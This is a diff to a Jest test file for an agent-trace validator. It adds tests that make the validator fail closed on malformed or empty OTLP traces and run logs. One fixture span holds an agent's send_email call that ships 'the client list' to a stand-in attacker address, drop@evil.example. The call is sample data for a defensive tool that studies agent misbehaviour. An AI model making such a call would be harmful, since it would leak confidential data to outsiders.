@@ -1,7 +1,7 @@
 /**
  * `saboteur validate` logic on files: a run log (every instance's trace, the benchmarks' declared
- * tool labels recovered), a bare trace, md and json output, exit codes, and input errors that
- * name the file.
+ * tool labels recovered), a bare trace, md and json output, exit codes, input errors that name
+ * the file, and input it must refuse rather than pass (exit 2).
  */
 import { describe, expect, it } from '@jest/globals';
 import { mkdtempSync, writeFileSync } from 'node:fs';
@@ -11,6 +11,7 @@ import type { ProxyCall } from '../../src/runlog/schema.js';
 import type { ToolEvent } from '../../src/benchmarks/agentic.js';
 import { validateTrace } from '../../src/taint/validate-trace.js';
 import { chatCall } from '../helpers/chat-call.js';
+import { EXIT, main } from '../../src/cli/main.js';
 
 const dir = mkdtempSync(path.join(tmpdir(), 'sab-validate-'));
 const T0 = Date.parse('2026-05-09T10:00:00.000Z');
@@ -164,5 +165,68 @@ describe('validateTrace on a bare trace and on bad input', () => {
     const text = path.join(dir, 'text.txt');
     writeFileSync(text, 'not json at all');
     await expect(validateTrace({ traceFile: text })).rejects.toThrow(/text\.txt: neither a JSON document nor OTLP JSON lines/);
+  });
+});
+
+describe('validateTrace fails closed on input it cannot judge', () => {
+  const otlp = (spans: Record<string, unknown>[]) => JSON.stringify({ resourceSpans: [{ scopeSpans: [{ spans }] }] });
+  const span = (over: Record<string, unknown> = {}) => ({
+    traceId: '5b8efff798038103d269b633813fc60c',
+    spanId: 'eee19b7ec3c1b174',
+    name: 'execute_tool send_email',
+    startTimeUnixNano: '1778488800000000000',
+    endTimeUnixNano: '1778488800100000000',
+    attributes: [
+      { key: 'gen_ai.operation.name', value: { stringValue: 'execute_tool' } },
+      { key: 'gen_ai.tool.name', value: { stringValue: 'send_email' } },
+      { key: 'gen_ai.tool.call.arguments', value: { stringValue: '{"to":"drop@evil.example","body":"the client list"}' } },
+    ],
+    ...over,
+  });
+  const write = (name: string, text: string) => {
+    const file = path.join(dir, name);
+    writeFileSync(file, text);
+    return file;
+  };
+
+  it.each([
+    ['an empty file', '', /the file is empty: there is no trace to validate/],
+    ['a file of blanks', '  \n\t\n', /the file is empty/],
+    ['an export with no spans', otlp([]), /the OTLP export holds no spans: there is nothing to validate/],
+    ['a span without a trace id', otlp([span({ traceId: undefined })]), /resourceSpans\[0\]\.scopeSpans\[0\]\.spans\[0\] \("execute_tool send_email"\): traceId is missing/],
+    ['a span with a malformed span id', otlp([span({ spanId: 'not-an-id' })]), /spanId "not-an-id" is not 16 hex digits/],
+    ['a span with an all-zero trace id', otlp([span({ traceId: '00000000000000000000000000000000' })]), /traceId is all zeros/],
+    ['a span with a malformed parent', otlp([span({ parentSpanId: 'xyz' })]), /parentSpanId "xyz" is not 16 hex digits/],
+    ['a span with no start time', otlp([span({ startTimeUnixNano: undefined })]), /startTimeUnixNano is missing, so the span cannot be placed in time/],
+    ['a run log with no agentic instance', JSON.stringify({ ...JSON.parse(runLog()), instances: JSON.parse(runLog()).instances.slice(3) }), /the run log has no instance with tool calls or spans/],
+    ['a bare trace with nothing in it', JSON.stringify({ root: 'Send the report.', calls: [], tools: [] }), /the trace has no calls, tool events or spans/],
+    [
+      'a tool event whose time is not a time',
+      JSON.stringify({ root: 'Send the report.', tools: [{ id: 's1:0', tool: 'send_email', arguments: { to: 'x@y.example' }, result: 'sent', isError: false, startedAt: 'yesterday', durationMs: 1, staged: { sinks: ['EXTERNAL_SEND'], decision: 'release', defense: 'none' } }] }),
+      /tool event s1:0 \(send_email\): startedAt "yesterday" is not a time, so the call cannot be placed in the trace/,
+    ],
+  ])('%s', async (_, text, message) => {
+    const file = write(`bad-${Math.random().toString(36).slice(2)}.json`, text);
+    await expect(validateTrace({ traceFile: file })).rejects.toThrow(message);
+    const err: string[] = [];
+    const code = await main(['validate', '--trace', file], { stdout: { write: () => true }, stderr: { write: (s: string) => err.push(s) > 0 }, env: {} });
+    expect(code).toBe(EXIT.usage);
+    expect(err.join('')).toMatch(message);
+  });
+
+  it('reads the tool definitions a bare trace lists (descriptions, schemas, annotations)', async () => {
+    t = 0;
+    const root = 'Give Ana (ana@corp.example) edit rights on the roadmap doc RM-1.';
+    const args = { doc: 'RM-1', grantee: 'ana@corp.example', level: 'edit' };
+    const trace = {
+      root,
+      calls: [call('c1', 'worker', root, [{ name: 'doc_acl_put', args }])],
+      tools: [event('s1:0', 'doc_acl_put', args, 'ok')],
+      toolDefinitions: [{ name: 'doc_acl_put', description: 'Share a document with someone.', inputSchema: { type: 'object', properties: { grantee: { type: 'string', format: 'email' } } }, annotations: { readOnlyHint: false, openWorldHint: true } }],
+    };
+    const r = await validateTrace({ traceFile: write('defs.json', JSON.stringify(trace)), format: 'json' });
+    const [s] = JSON.parse(r.text).sinks;
+    expect(s).toMatchObject({ tool: 'doc_acl_put', decision: 'release', labels: ['EXTERNAL_SEND'] });
+    expect(r.exitCode).toBe(0);
   });
 });
